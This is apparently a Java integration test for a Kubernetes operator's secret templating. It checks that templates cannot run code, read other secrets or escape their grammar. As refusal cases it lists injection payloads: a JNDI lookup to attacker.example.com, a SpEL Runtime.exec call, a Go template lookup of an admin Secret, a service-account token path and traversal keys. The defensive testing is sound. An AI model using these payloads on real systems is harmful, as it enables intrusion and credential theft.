package dev.appclients.cognito.threats;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** T8: a template runs code of the operator, reads what its author cannot read, or escapes the text of its value. */
class T08TemplatesIT extends OnTenants {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int ENTRIES = 20;
    private static final int TEMPLATES = 400;

    /** The grammar in one expression, independent of the operator's parser. */
    private static final Pattern TOKEN = Pattern.compile(
            "(?<escape>\\$\\$\\()|\\$\\((?:(?<function>json|base64|urlencode)\\((?<of>\\w+)\\)|(?<variable>\\w+))\\)|(?<open>\\$\\()");

    private static final List<String> PIECES = List.of(
            "$",
            "$$",
            "$(",
            "$$(",
            "(",
            ")",
            "))",
            "{",
            "}",
            "\"",
            "\\",
            "\n",
            " ",
            "é",
            "foo",
            "json",
            "json(",
            "base64(",
            "urlencode(",
            "clientId",
            "clientSecret",
            "issuer",
            "namespace",
            "$(clientId)",
            "$(clientSecret)",
            "$(json(clientSecret))",
            "$(base64(issuer))",
            "$(urlencode(issuer))",
            "$(name)",
            "$(region)");

    @Test
    void theApiServerRefusesWhatIsNoVariable() {
        assertThat(List.of(
                        "$(env)",
                        "$(env(PATH))",
                        "$(file(/var/run/secrets/kubernetes.io/serviceaccount/token))",
                        "$(json(json(clientId)))",
                        "$(base64(clientId",
                        "$(clientId",
                        "$( clientId )",
                        "$(clientid)",
                        "$(clientId.getClass())",
                        "$(clientId | base64)",
                        "$(lookup(v1, Secret, kube-system, admin))",
                        "$(secret(kube-system/admin))",
                        "$(java.lang.Runtime)",
                        "$($(clientId))",
                        "$()",
                        "$(json())"))
                .allSatisfy(template -> assertThat(refusal(attacker(), withTemplate("web", Map.of("value", template))))
                        .contains("secret.template"));
    }

    @Test
    void expressionsOfOtherLanguagesStayText() {
        Map<String, String> template = Map.of(
                "go", "{{ (lookup \"v1\" \"Secret\" \"kube-system\" \"admin\").data }}",
                "el", "${clientSecret} #{T(java.lang.Runtime).getRuntime().exec('id')}",
                "jndi", "${jndi:ldap://attacker.example.com/a}",
                "shell", "`id` $clientSecret $PATH",
                "erb", "<%= clientSecret %>");

        assertThat(rendered("web", template)).containsAllEntriesOf(template);
    }

    /** A value with the syntax of a variable, under the control of the tenant or of Cognito, is not expanded. */
    @Test
    void aValueIsNotExpandedAgain() {
        String url = "https://shop.example.com/$(clientSecret)";
        apply(attacker(), client("web", """
                appType: Confidential
                allowedOAuthFlows: [code]
                allowedOAuthScopes: [openid]
                callbackURLs: ["%s"]
                secret:
                  template: {again: "$(redirectUri)", literal: "$$(clientSecret)"}
                """.formatted(url)));

        awaitClient(attacker(), "web", "Synced");
        assertThat(data(attacker(), "web"))
                .containsEntry("redirect-uri", url)
                .containsEntry("again", url)
                .containsEntry("literal", "$(clientSecret)");
    }

    @Test
    void aKeyLeavesNoDirectoryAndReplacesNoCredential() {
        assertThat(List.of("../token", "..data", "a/b", "", "client-id", "client-secret"))
                .allSatisfy(key -> assertThat(refusal(attacker(), withTemplate("web", Map.of(key, "value"))))
                        .contains("template"));
    }

    /** Random texts: the API server refuses exactly those that the grammar excludes, and the operator renders the others by the grammar. */
    @Test
    void noTextEscapesTheGrammar() {
        Random random = new Random(13);
        Map<String, String> permitted = new LinkedHashMap<>();
        int refused = 0;
        for (int i = 0; i < TEMPLATES; i++) {
            String template = text(random);
            if (isValid(template)) {
                permitted.put("key-" + i, template);
            } else {
                assertThat(refusal(attacker(), withTemplate("refused", Map.of("value", template))))
                        .as(template)
                        .contains("secret.template");
                refused++;
            }
        }
        assertThat(refused).as("refused texts").isGreaterThan(TEMPLATES / 10);
        List<Map.Entry<String, String>> entries = new ArrayList<>(permitted.entrySet());
        for (int from = 0; from < entries.size(); from += ENTRIES) {
            Map<String, String> some = new LinkedHashMap<>();
            entries.subList(from, Math.min(entries.size(), from + ENTRIES))
                    .forEach(entry -> some.put(entry.getKey(), entry.getValue()));
            String name = "web-" + from;
            Map<String, String> data = rendered(name, some);
            some.forEach((key, template) ->
                    assertThat(data).as(template).containsEntry(key, expected(template, name, data)));
        }
    }

    private String text(Random random) {
        StringBuilder text = new StringBuilder();
        int pieces = 1 + random.nextInt(6);
        for (int i = 0; i < pieces; i++) {
            text.append(PIECES.get(random.nextInt(PIECES.size())));
        }
        return text.toString();
    }

    private static boolean isValid(String template) {
        return TOKEN.matcher(template)
                .results()
                .allMatch(token -> token.namedGroups().containsKey("open")
                        && token.group("open") == null
                        && (token.group("escape") != null || isVariable(variable(token))));
    }

    private static boolean isVariable(String name) {
        return List.of("clientId", "clientSecret", "issuer", "namespace", "name", "region")
                .contains(name);
    }

    private static String variable(MatchResult token) {
        return token.group("of") == null ? token.group("variable") : token.group("of");
    }

    private String expected(String template, String name, Map<String, String> data) {
        Map<String, String> values = new TreeMap<>(Map.of(
                "clientId", data.get("client-id"),
                "clientSecret", data.get("client-secret"),
                "issuer", data.get("issuer"),
                "region", data.get("region"),
                "namespace", attacker(),
                "name", name));
        return TOKEN.matcher(template)
                .replaceAll(token -> java.util.regex.Matcher.quoteReplacement(
                        token.group("escape") != null
                                ? "$("
                                : encoded(token.group("function"), values.get(variable(token)))));
    }

    private static String encoded(String function, String value) {
        try {
            return switch (function) {
                case null -> value;
                case "json" -> JSON.writeValueAsString(value);
                case "base64" -> Base64.getEncoder().encodeToString(value.getBytes(UTF_8));
                default -> URLEncoder.encode(value, UTF_8);
            };
        } catch (JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }

    private Map<String, String> rendered(String name, Map<String, String> template) {
        apply(attacker(), withTemplate(name, template));
        awaitClient(attacker(), name, "Synced");
        return data(attacker(), name);
    }

    private static String withTemplate(String name, Map<String, String> template) {
        try {
            return client(name, "appType: Confidential\nsecret: {template: " + JSON.writeValueAsString(template) + "}");
        } catch (JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }
}
